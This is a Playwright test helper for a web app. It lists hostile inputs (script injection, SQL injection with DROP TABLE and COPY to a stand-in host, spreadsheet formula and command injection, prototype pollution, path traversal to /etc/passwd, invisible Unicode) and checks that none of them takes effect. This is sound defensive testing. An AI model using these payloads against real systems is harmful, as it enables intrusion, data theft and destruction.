import { expect, type Page } from '@playwright/test';

const SET = "window.canary='script'";
const AWAY = 'elsewhere.example/canary';

/** What people and programs write to make others do something, by what it is after. */
export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${SET}</script>`,
    `<img src=x onerror="${SET}">`,
    `"><svg/onload=${SET}>`,
    `' autofocus onfocus=${SET} x='`,
    `</title></style></textarea><script>${SET}</script>`,
    `<iframe srcdoc="<script>parent.canary='script'</script>"></iframe>`,
    `<a href="javascript:${SET}">x</a>`,
    `javascript:${SET}`,
    `data:text/html,<script>${SET}</script>`,
    `{{constructor.constructor("${SET}")()}}`,
    `\${${SET}}`,
    `{@html "<img src=x onerror=${SET}>"}`,
    `**<b onclick=${SET}>bold</b>**`,
  ],
  network: [
    `<img src="https://${AWAY}">`,
    `<link rel="stylesheet" href="https://${AWAY}">`,
    `<meta http-equiv="refresh" content="0;url=https://${AWAY}">`,
    `url(https://${AWAY})`,
    `https://${AWAY}`,
    `//${AWAY}`,
    `s3://${AWAY}`,
    `\\\\${AWAY.replace('/', '\\')}`,
    `![x](https://${AWAY})`,
    `=WEBSERVICE("https://${AWAY}")`,
  ],
  sql: [
    `'; DROP TABLE customer; --`,
    `"; DROP TABLE order_line; --`,
    `' OR '1'='1`,
    `') UNION SELECT 1, 2, 3 --`,
    `'||(SELECT count(*) FROM customer)||'`,
    `\\'; DELETE FROM customer; --`,
    `$$; DROP SCHEMA main CASCADE; $$`,
    `'; COPY customer TO 'https://${AWAY}'; --`,
    `'; ATTACH 'https://${AWAY}' AS x; --`,
    `(SELECT * FROM read_csv('https://${AWAY}'))`,
    `/* comment`,
    `%_[a-z]?$1:name@p`,
    `NULL`,
  ],
  formula: [
    `=1+1`,
    `+1+1`,
    `-1+1`,
    `@SUM(1)`,
    `\t=1+1`,
    `\r=1+1`,
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("https://${AWAY}","x")`,
    '\uFF1D1+1',
  ],
  prototype: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '__defineGetter__',
    '__proto__.canary',
    'constructor.prototype.canary',
    'then',
    '{"__proto__":{"canary":"prototype"}}',
  ],
  path: [
    '../../../../etc/passwd',
    '..\\..\\windows\\system32',
    '/dev/null',
    'C:\\con',
    'aux',
    '%2e%2e%2fx',
    'name.csv\u0000.exe',
    '.',
    '~',
  ],
  unseen: [
    'gpj.\u202Eexe',
    '\u2066left\u2069\u2067right\u2069',
    'zero\u200Bwidth\u200D\uFEFF',
    'nul\u0000bell\u0007escape\u001B[31m',
    'line\u2028paragraph\u2029',
    'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(8),
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '\uFFFD\uFFFE',
    '\u00A0',
  ],
  long: ['x'.repeat(4000), `'`.repeat(600), '('.repeat(600), '<'.repeat(600), 'مرحبا '.repeat(300)],
};

export const ALL: readonly string[] = Object.values(HOSTILE).flat();

/** One of each sort, for entries that take a moment each: which one changes from entry to entry. */
export const someOf = (entry: number): readonly string[] =>
  Object.values(HOSTILE).map((sort) => sort[entry % sort.length] ?? '');

/** Notes dialogs: none of ours is one of the browser's. */
export function watchDialogs(page: Page): string[] {
  const said: string[] = [];
  page.on('dialog', (dialog) => {
    // Leaving a page whose work is not saved yet is asked about, by ours.
    if (dialog.type() === 'beforeunload') return void dialog.accept();
    said.push(dialog.message());
    void dialog.dismiss();
  });
  return said;
}

/** No script ran, no prototype was changed, and no text became an element of the page. */
export async function expectUnharmed(page: Page, entry: string): Promise<void> {
  const found = await page.evaluate(() => {
    const plain: Record<string, unknown> = {};
    return {
      canary: [Reflect.get(window, 'canary'), plain['canary'], Reflect.get([], 'canary')],
      prototype: Object.keys(Object.prototype),
      elements: [
        ...document.body.querySelectorAll(
          '[onerror],[onload],[onfocus],[onclick],iframe,object,embed,meta,style,' +
            'a[href^="javascript:"],[src*="elsewhere"],[href*="elsewhere"]:not([href^="#"])',
        ),
      ].map((element) => element.outerHTML.slice(0, 200)),
    };
  });
  expect(found, entry).toMatchObject({
    canary: [undefined, undefined, undefined],
    prototype: [],
    elements: [],
  });
}
